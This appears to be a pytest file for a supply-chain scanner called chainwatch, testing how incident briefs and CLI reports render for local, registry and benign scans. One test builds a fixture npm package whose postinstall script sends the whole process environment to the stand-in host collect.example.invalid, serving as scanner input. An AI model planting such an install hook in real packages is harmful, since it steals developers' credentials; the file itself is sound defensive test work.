"""Reports of local scans say what is known: no "published None", no "since unknown time";
a benign scan has nothing to report, and says so."""

from __future__ import annotations

import json
from pathlib import Path

from chainwatch.incidents.brief import build
from chainwatch.incidents.cluster import cluster
from chainwatch.incidents.model import Observation
from chainwatch.incidents.render import render_html, render_markdown
from chainwatch.model import Level, PackageRef, Verdict
from chainwatch.output.markdown import render
from tests.helpers import write_package
from tests.markdown_oracle import all_visible
from tests.unit.test_output_json import run

FINDING = {"rule": "CW-SECRET-ENV-DUMP", "technique": "secret-theft", "severity": "high",
           "message": "Serializes the whole environment", "file": "index.js", "line": 1}


def test_a_brief_of_local_scans_claims_no_publish_time() -> None:
    local = [Observation(f"pkg{i}", "1.0.0", "malicious", "verdict", findings=(FINDING,),
                         indicators={"hosts": ["c2.invalid"]}) for i in range(2)]
    for incident in cluster(local):
        brief = build(incident)
        text = all_visible(render_markdown(brief))
        page = render_html(brief)
        for shown in (text, page, json.dumps(brief)):
            assert "None" not in shown and "unknown time" not in shown
            assert "published null" not in shown
        assert "scanned from local files" in text and "local file" in json.dumps(brief)
        assert "mirror strips" not in text and "Keep a release-age delay" not in text


def test_a_brief_of_registry_releases_still_gives_times() -> None:
    obs = Observation("pkg", "1.0.1", "malicious", "verdict", publisher="mallory",
                      published="2026-09-08T13:16:00Z", findings=(FINDING,))
    (incident,) = cluster([obs])
    text = all_visible(render_markdown(build(incident)))
    assert "published by mallory at 2026-09-08 13:16 UTC" in text
    assert "since 2026-09-08 13:16 UTC" in text


def test_a_benign_scan_report_says_there_is_nothing_to_report() -> None:
    benign = Verdict(target=PackageRef("ok", "1.0.0"), level=Level.BENIGN, score=0,
                     explanation="no new capability", findings=(), capabilities=())
    assert "Nothing to report" in all_visible(render([benign]))


def test_cli_report_of_benign_scans_is_nothing_to_report(tmp_path: Path) -> None:
    pkg = write_package(tmp_path / "ok", {
        "package.json": json.dumps({"name": "ok", "version": "1.0.0", "main": "index.js"}),
        "index.js": "module.exports = (a, b) => a + b;\n"})
    scanned = run(tmp_path, "scan", str(pkg), "--against", "none", "--offline",
                  "--no-remember", "-f", "json")
    assert scanned.returncode == 0, scanned.stderr
    (tmp_path / "scan.json").write_text(scanned.stdout)
    db = f"sqlite:///{tmp_path / 'cw.db'}"
    done = run(tmp_path, "report", str(tmp_path / "scan.json"), "--db", db)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("Nothing to report")
    as_json = run(tmp_path, "report", str(tmp_path / "scan.json"), "--db", db, "-f", "json")
    assert as_json.returncode == 0 and as_json.stdout == ""
    assert "Nothing to report" in as_json.stderr
    # -o always leaves a file behind, in the format asked for (before: html/json wrote nothing)
    for fmt in ("html", "json", "stix", "sarif", "markdown"):
        target = tmp_path / f"brief.{fmt}"
        done = run(tmp_path, "report", str(tmp_path / "scan.json"), "--db", db, "-f", fmt,
                   "-o", str(target))
        assert done.returncode == 0 and target.is_file(), (fmt, done.stderr)
        text = target.read_text()
        if fmt in ("json", "stix", "sarif"):
            json.loads(text)
        else:
            assert "Nothing to report" in text


def test_cli_report_of_two_incidents_names_them_with_their_packages(tmp_path: Path) -> None:
    examples = Path(__file__).resolve().parents[2] / "examples"
    clipper = run(tmp_path, "scan", str(examples / "left-padder-1.0.1"), "--against",
                  str(examples / "left-padder-1.0.0"), "--offline", "--no-remember", "-f", "json")
    stealer_pkg = write_package(tmp_path / "st", {
        "package.json": json.dumps({"name": "token-helper", "version": "1.0.0",
                                    "scripts": {"postinstall": "node i.js"}}),
        "i.js": "require('https').request({host: 'collect.example.invalid', method: 'POST'})"
                ".end(JSON.stringify(process.env));\n"})
    stealer = run(tmp_path, "scan", str(stealer_pkg), "--against", "none", "--offline",
                  "--no-remember", "-f", "json")
    (tmp_path / "a.json").write_text(clipper.stdout)
    (tmp_path / "b.json").write_text(stealer.stdout)
    done = run(tmp_path, "report", str(tmp_path / "a.json"), str(tmp_path / "b.json"),
               "--db", f"sqlite:///{tmp_path / 'cw.db'}")
    assert done.returncode == 2
    assert "the scan files hold 2 incidents: name one with --incident" in done.stderr
    assert "left-padder@1.0.1" in done.stderr and "token-helper@1.0.0" in done.stderr
